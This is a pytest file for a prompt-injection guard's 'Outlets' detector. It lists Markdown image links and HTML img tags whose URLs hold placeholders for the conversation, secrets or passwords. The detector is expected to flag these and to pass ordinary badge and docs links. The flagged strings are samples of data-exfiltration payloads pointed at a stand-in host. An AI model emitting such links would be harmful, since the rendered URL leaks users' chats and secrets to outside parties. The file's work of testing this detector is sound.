"""Outlets: addresses with room for data."""

from __future__ import annotations

import pytest

from amplifier_hooks.guards.injection_guard.outlets import Outlets

OUTLETS = Outlets("test")


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://a.example/p?q={{conversation}})",
        "[click](https://a.example/<file_contents>)",
        "![x](https://a.example/p?q=${secrets})",
        "![x](https://a.example/p?q=[summary of the chat])",
        "![x](https://a.example/p?q=CHAT_HISTORY)",
        '<img src="https://a.example/p?q={password}">',
    ],
)
def test_an_address_with_a_place_for_data_is_found(text: str) -> None:
    """In Markdown and in HTML."""
    assert [one.kind for one in OUTLETS.find(text)] == ["outlet"]


@pytest.mark.parametrize(
    "text",
    [
        "![badge](https://img.example/v/{owner}/{repo}.svg)",
        "[docs](https://a.example/data/history)",
        "![x](https://a.example/p?data=1)",
        "[x](https://a.example/?key=YOUR_API_KEY)",
        "{conversation}",
    ],
)
def test_ordinary_addresses_are_none(text: str) -> None:
    """Badges, pages, keys of the reader's own."""
    assert list(OUTLETS.find(text)) == []
